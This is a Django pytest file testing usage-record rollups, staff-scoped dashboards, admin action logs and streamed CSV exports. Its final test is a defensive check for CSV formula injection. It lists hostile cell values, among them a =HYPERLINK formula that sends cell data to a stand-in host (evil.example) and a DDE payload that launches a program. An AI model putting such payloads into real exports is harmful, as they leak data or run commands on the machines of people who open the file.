"""Rollups: incremental, idempotent, correct sums; scope; action log; streamed CSV."""

from __future__ import annotations

import random
import threading
import uuid
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from accounts.models import ClientKey
from accounts.services import client_key_create, client_key_update
from audit.models import TTFB_BOUNDS_MS, AdminAction, Granularity, RollupWatermark, UsageRecord, UsageRollup
from audit.rollups import SUM_COLUMNS, TTFB_FIELDS, WATERMARK, rollups_rebuild, rollups_update
from audit.selectors import UsageScope, usage_scope_for

pytestmark = pytest.mark.django_db

T0 = datetime.now(UTC).replace(minute=5, second=0, microsecond=0) - timedelta(hours=2)


def _rec(**kw: object) -> UsageRecord:
    base: dict[str, object] = dict(
        request_id=uuid.uuid4(),
        created_at=T0,
        client_key_id=1,
        key_prefix="sk-team-aaa",
        account_id=1,
        account_label="acct-A",
        surface="chat",
        requested_model="gpt-4o-mini",
        outcome="ok",
        status_code=200,
        input_tokens=10,
        output_tokens=5,
        ttfb_ms=120,
        duration_ms=300,
        attempts=1,
    )
    base.update(kw)
    return UsageRecord(**base)


def test_rollups_sum_incrementally_and_idempotently() -> None:
    # given records over two hours, one failover, one upstream error, one slow
    UsageRecord.objects.bulk_create(
        [
            _rec(),
            _rec(ttfb_ms=4000, attempts=2),
            _rec(created_at=T0 + timedelta(hours=1), outcome="upstream_error", status_code=502, ttfb_ms=None),
        ]
    )
    # when the rollup runs twice
    assert rollups_update() == 3
    assert rollups_update() == 0
    # then hourly cells and the daily cell hold the sums exactly once
    hours = UsageRollup.objects.filter(granularity=Granularity.HOUR).order_by("bucket")
    assert [h.requests for h in hours] == [2, 1]
    first = hours[0]
    # 120 ms falls in (100, 150], 4000 ms in (2000, 5000]
    assert (first.failovers, first.input_tokens, first.ttfb_count, first.ttfb_b6, first.ttfb_b12) == (1, 20, 2, 1, 1)
    assert hours[1].upstream_errors == 1
    days = UsageRollup.objects.filter(granularity=Granularity.DAY)
    assert sum(d.requests for d in days) == 3
    # and new rows (including a late one for an old hour) add to the existing cells
    UsageRecord.objects.bulk_create([_rec(), _rec(created_at=T0 - timedelta(minutes=1))])
    assert rollups_update(batch=1) == 2
    assert sum(h.requests for h in UsageRollup.objects.filter(granularity=Granularity.HOUR)) == 5
    # and a rebuild from raw gives the same totals
    rollups_rebuild()
    assert sum(d.requests for d in UsageRollup.objects.filter(granularity=Granularity.DAY)) == 5


def test_staff_without_permission_sees_only_own_keys() -> None:
    users = get_user_model()
    alice = users.objects.create_user("alice", password="pw-alice-123", is_staff=True)
    mine, _ = client_key_create(name="alice-key", owner_id=alice.pk)
    other, _ = client_key_create(name="bob-key")
    UsageRecord.objects.bulk_create([_rec(client_key_id=mine.pk), _rec(client_key_id=other.pk)])
    rollups_update()
    assert usage_scope_for(alice) == UsageScope(all_keys=False, key_ids=frozenset({mine.pk}))
    client = Client()
    client.force_login(alice)
    # Staff alone is not enough: the dashboard needs the usage view permission.
    assert client.get("/admin/audit/usagerecord/dashboard/").status_code == 403
    from django.contrib.auth.models import Permission

    alice.user_permissions.add(Permission.objects.get(codename="view_usagerecord"))
    page = client.get("/admin/audit/usagerecord/dashboard/")
    assert page.status_code == 200
    assert b"Showing only the keys you own" in page.content
    assert page.context["totals"]["requests"] == 1
    csv_body = b"".join(client.get("/admin/audit/usagerecord/export/records.csv").streaming_content)  # type: ignore[attr-defined]
    assert csv_body.count(b"\n") == 2  # header + alice's one record


def test_dashboard_and_exports_require_staff() -> None:
    client = Client()
    for url in ("/admin/audit/usagerecord/dashboard/", "/admin/audit/usagerecord/export/rollups.csv"):
        assert client.get(url).status_code == 302  # to the login page


def test_superuser_exports_stream_rollups() -> None:
    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
    UsageRecord.objects.bulk_create([_rec(), _rec(requested_model="gpt-4.1")])
    rollups_update()
    client = Client()
    client.force_login(boss)
    resp = client.get("/admin/audit/usagerecord/export/rollups.csv?granularity=h")
    assert resp.streaming
    lines = b"".join(resp.streaming_content).decode().splitlines()  # type: ignore[attr-defined]
    assert lines[0].startswith("bucket,account_id,account_label") and len(lines) == 3


def test_key_changes_are_logged_old_to_new_without_secrets() -> None:
    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
    key, raw = client_key_create(name="k", requests_per_minute=5, actor=boss)
    client_key_update(key=key, requests_per_minute=10, enabled=False, actor=boss)
    entries = list(AdminAction.objects.order_by("id"))
    assert [e.action for e in entries] == ["key.create", "key.update"]
    assert entries[1].changes == {"requests_per_minute": [5, 10], "enabled": [True, False]}
    assert entries[1].actor_label == "boss"
    blob = str([e.changes for e in entries])
    assert raw not in blob and ClientKey.objects.get().key_hash not in blob


# --------------------------------------------------------------------------- fold vs raw truth

CUBE_KEYS: dict[str, tuple[str, ...]] = {
    # granularity -> the dimensions the cube keeps (see audit.models.Granularity)
    "h": ("account_id", "client_key_id", "model"),
    "ham": ("account_id", "model"),
    "hk": ("client_key_id",),
    "d": ("account_id", "client_key_id", "model"),
    "dam": ("account_id", "model"),
    "dk": ("client_key_id",),
    "hak": ("account_id", "client_key_id"),
    "dak": ("account_id", "client_key_id"),
}


def _mixed_records(n: int, seed: int = 3) -> list[UsageRecord]:
    """Records over two days (crossing midnight) with every outcome and TTFB bucket edge."""
    rng = random.Random(seed)
    base = datetime(2026, 3, 1, 22, 0, tzinfo=UTC)
    edges = [None, 0, 5, 6, 25, 26, 75, 100, 101, 250, 251, 750, 999, 1000, 2000, 5000, 10000, 30000, 30001, 90000]
    out = []
    for _ in range(n):
        outcome, status = rng.choice(
            [("ok", 200), ("upstream_error", 502), ("rejected", 429), ("client_disconnect", 499), ("ok", 429)]
        )
        out.append(
            _rec(
                created_at=base + timedelta(minutes=rng.randrange(0, 60 * 30)),
                client_key_id=rng.choice([None, 1, 2, 3]),
                account_id=rng.choice([None, 7, 8]),
                requested_model=rng.choice(["gpt-4o-mini", "gpt-5", ""]),
                outcome=outcome,
                status_code=status,
                input_tokens=rng.randrange(0, 5000),
                output_tokens=rng.randrange(0, 900),
                cached_tokens=rng.randrange(0, 50),
                reasoning_tokens=rng.randrange(0, 70),
                cache_creation_tokens=rng.randrange(0, 40),
                # None = a model without a known price (counted as unpriced, adds no cost)
                cost_nanousd=rng.choice([None, 0, rng.randrange(1, 10**9)]),
                ttfb_ms=rng.choice(edges),
                duration_ms=rng.randrange(0, 60000),
                attempts=rng.choice([0, 1, 1, 2, 3]),
            )
        )
    return out


def _expected(records: list[UsageRecord]) -> dict[tuple[Any, ...], dict[str, int]]:
    """Every cube computed in Python from the raw rows: the reference for the SQL fold."""
    cells: dict[tuple[Any, ...], dict[str, int]] = defaultdict(lambda: dict.fromkeys(SUM_COLUMNS, 0))
    for r in records:
        hour = r.created_at.replace(minute=0, second=0, microsecond=0)
        dims = {"account_id": r.account_id or 0, "client_key_id": r.client_key_id or 0, "model": r.requested_model}
        add = dict.fromkeys(SUM_COLUMNS, 0)
        add.update(
            requests=1,
            ok=int(r.outcome == "ok"),
            upstream_errors=int(r.outcome == "upstream_error"),
            rejected=int(r.outcome == "rejected"),
            disconnects=int(r.outcome == "client_disconnect"),
            failovers=int(r.attempts > 1),
            rate_limited=int(r.status_code == 429),
            input_tokens=r.input_tokens,
            output_tokens=r.output_tokens,
            cached_tokens=r.cached_tokens,
            reasoning_tokens=r.reasoning_tokens,
            cache_creation_tokens=r.cache_creation_tokens,
            cost_nanousd=r.cost_nanousd or 0,
            unpriced=int(r.cost_nanousd is None),
            duration_ms_sum=r.duration_ms,
            ttfb_count=int(r.ttfb_ms is not None),
            ttfb_ms_sum=r.ttfb_ms or 0,
        )
        if r.ttfb_ms is not None:
            i = next((i for i, b in enumerate(TTFB_BOUNDS_MS) if r.ttfb_ms <= b), len(TTFB_BOUNDS_MS))
            add[TTFB_FIELDS[i]] = 1
        for cube, keep in CUBE_KEYS.items():
            bucket = hour if cube.startswith("h") else hour.replace(hour=0)
            key = (cube, bucket, *(dims[d] if d in keep else (0 if d != "model" else "") for d in CUBE_KEYS["h"]))
            for c, v in add.items():
                cells[key][c] += v
    return dict(cells)


def _actual() -> dict[tuple[Any, ...], dict[str, int]]:
    return {
        (r.granularity, r.bucket, r.account_id, r.client_key_id, r.model): {c: getattr(r, c) for c in SUM_COLUMNS}
        for r in UsageRollup.objects.all()
    }


def test_every_cube_matches_the_raw_rows_exactly() -> None:
    # given a mix of records, folded in odd-sized id ranges (cells split across batches)
    records = _mixed_records(400)
    UsageRecord.objects.bulk_create(records)
    assert rollups_update(batch=37) == 400
    # then each cube (hourly/daily x full/account-model/key) equals the sums of the raw rows,
    # histogram buckets included, and every cube gives the same grand total
    assert _actual() == _expected(records)
    for cube in CUBE_KEYS:
        assert sum(r.requests for r in UsageRollup.objects.filter(granularity=cube)) == 400
    # and running again adds nothing (idempotent)
    assert rollups_update(batch=37) == 0
    assert _actual() == _expected(records)


def test_crash_mid_batch_rolls_back_the_upsert_with_the_watermark(monkeypatch: pytest.MonkeyPatch) -> None:
    records = _mixed_records(120, seed=5)
    UsageRecord.objects.bulk_create(records)
    ids = sorted(UsageRecord.objects.values_list("id", flat=True))
    calls = {"n": 0}
    real_save = RollupWatermark.save

    def save_then_crash_on_second_batch(self: RollupWatermark, *args: Any, **kwargs: Any) -> None:
        calls["n"] += 1
        if calls["n"] == 2:  # the second batch's upsert already ran: the crash must undo it
            raise RuntimeError("worker killed")
        real_save(self, *args, **kwargs)

    # given a run that dies inside its second batch
    RollupWatermark.objects.create(name=WATERMARK)  # so each save() below is one batch's
    monkeypatch.setattr(RollupWatermark, "save", save_then_crash_on_second_batch)
    with pytest.raises(RuntimeError):
        rollups_update(batch=50)
    # then exactly the first batch is counted and the watermark sits at its end
    first = [r for r in records if r.pk <= ids[0] - 1 + 50]
    assert RollupWatermark.objects.get(name=WATERMARK).last_id == ids[0] - 1 + 50
    assert _actual() == _expected(first)
    # and the next run folds the rest once
    monkeypatch.setattr(RollupWatermark, "save", real_save)
    assert rollups_update(batch=50) == 70
    assert _actual() == _expected(records)


def test_bounded_run_resumes_from_the_watermark() -> None:
    records = _mixed_records(90, seed=9)
    UsageRecord.objects.bulk_create(records)
    assert rollups_update(batch=20, max_batches=2) == 40
    assert rollups_update(batch=20, max_seconds=0) == 20  # one range, then the time is up
    assert rollups_update(batch=20) == 30
    assert _actual() == _expected(records)


def test_rebuild_equals_incremental() -> None:
    records = _mixed_records(150, seed=11)
    UsageRecord.objects.bulk_create(records)
    rollups_update(batch=13)
    before = _actual()
    rollups_rebuild()
    assert _actual() == before == _expected(records)


@pytest.mark.django_db(transaction=True)
def test_concurrent_runs_count_every_row_once() -> None:
    # given rows and two workers folding at the same time (own connections, small batches)
    records = _mixed_records(300, seed=13)
    UsageRecord.objects.bulk_create(records)
    results: list[int] = []
    errors: list[BaseException] = []
    start = threading.Barrier(2)

    def worker() -> None:
        try:
            start.wait()
            results.append(rollups_update(batch=10))
        except BaseException as exc:  # surfaced below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=worker) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    # then the watermark lock made them share the work: every row counted exactly once
    assert not errors
    assert sum(results) == 300
    assert _actual() == _expected(records)


def test_dashboard_reads_narrow_cubes_and_totals_agree() -> None:
    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
    UsageRecord.objects.bulk_create([_rec(), _rec(client_key_id=2, requested_model="gpt-5"), _rec(ttfb_ms=None)])
    rollups_update()
    client = Client()
    client.force_login(boss)
    with CaptureQueriesContext(connection) as ctx:
        page = client.get("/admin/audit/usagerecord/dashboard/")
    assert page.context["totals"]["requests"] == 3
    rollup_sql = [q["sql"] for q in ctx.captured_queries if "audit_usagerollup" in q["sql"]]
    narrow = ("'dam'", "'dk'", "'dak'", "'ham'", "'hk'", "'hak'")
    assert rollup_sql and all(any(c in s for c in narrow) for s in rollup_sql)
    assert not any("audit_usagerecord" in q["sql"] for q in ctx.captured_queries)


def test_records_list_never_counts_and_pages_forward() -> None:
    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
    UsageRecord.objects.bulk_create([_rec(created_at=T0 - timedelta(seconds=i)) for i in range(150)])
    client = Client()
    client.force_login(boss)
    for url in (
        "/admin/audit/usagerecord/",
        "/admin/audit/usagerecord/?outcome=ok&surface=chat&account=1",
        "/admin/audit/usagerollup/",
    ):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        sqls = " ".join(q["sql"].upper() for q in ctx.captured_queries)
        assert "COUNT(" not in sqls and "DISTINCT" not in sqls, url
    first = client.get("/admin/audit/usagerecord/")
    assert len(first.context["cl"].result_list) == 100 and b"more on the next" in first.content
    second = client.get("/admin/audit/usagerecord/?p=2")
    assert len(second.context["cl"].result_list) == 50 and b"more on the next" not in second.content


def test_csv_exports_neutralise_formula_cells() -> None:
    """Issue 17 F9: a model name such as =HYPERLINK(...) was exported as-is (a formula to
    spreadsheet applications). OWASP: cells starting with = + - @ tab or CR get a quote."""
    import csv
    import io

    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tx",
        "\rx",
    ]
    UsageRecord.objects.bulk_create(
        [_rec(requested_model=m, account_label="@acct", error_message="=1+1") for m in hostile]
        + [_rec(requested_model="gpt-4o-mini")]
    )
    rollups_update()
    client = Client()
    client.force_login(boss)
    for url, column in (
        ("/admin/audit/usagerecord/export/records.csv", "requested_model"),
        ("/admin/audit/usagerecord/export/rollups.csv?granularity=h", "model"),
    ):
        text = b"".join(client.get(url).streaming_content).decode()  # type: ignore[attr-defined]
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        models = sorted(row[column] for row in rows)
        assert sorted(["'" + m for m in hostile] + ["gpt-4o-mini"]) == models
        assert {row["account_label"] for row in rows} == {"'@acct", "acct-A"}
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
